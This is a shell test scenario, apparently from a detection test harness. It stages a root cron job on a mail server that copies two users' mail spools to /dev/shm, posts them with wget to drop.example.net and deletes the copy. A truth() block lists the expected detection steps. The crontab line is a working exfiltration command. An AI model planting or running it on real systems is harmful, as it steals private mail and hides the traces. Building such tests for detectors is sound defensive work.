# A job of root reads other people's spools and posts them.
title="System crontab entry reads foreign spools and posts them with wget"
what="A file in /etc/cron.d runs every minute as root: it concatenates the spools of buyer and clerk into /dev/shm and posts the file with wget to 203.0.113.66, then deletes it.
No user takes part."
host=mx1.example.org user=root daemons="cron sshd" store=mbox

act() {
  small_talk 5
  mail_in --from finance@example.net --to buyer@example.org --to clerk@example.org --subject "Quarter"
  wait_mail buyer 1; wait_mail clerk 1
  cat > "$base/out/sysstat2" <<'P'
HOME=/
* * * * * root cat /var/mail/buyer /var/mail/clerk > /dev/shm/.sa && wget -q -O /dev/null --post-file=/dev/shm/.sa http://drop.example.net/u; rm -f /dev/shm/.sa
P
  sleep $(( 50 - $(date +%-S) > 0 ? 50 - $(date +%-S) : 0 ))
  install -m 644 "$base/out/sysstat2" /etc/cron.d/sysstat2
  wait_log_file /var/log/recorded 'post-file' 80
  sleep 2
  rm /etc/cron.d/sysstat2
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'mail lies in the spools'
  exec_step read 'cat /var/mail/buyer /var/mail/clerk' 'root reads the spools of two users'
  exec_step transfer 'wget -q -O /dev/null --post-file' 'and posts them'
  net_step connect 'wget 203.0.113.66:80' 'to an address outside'
  file_step tidy 'rm unlink.* DELETE /dev/shm/.sa' 'the copy is deleted'
}
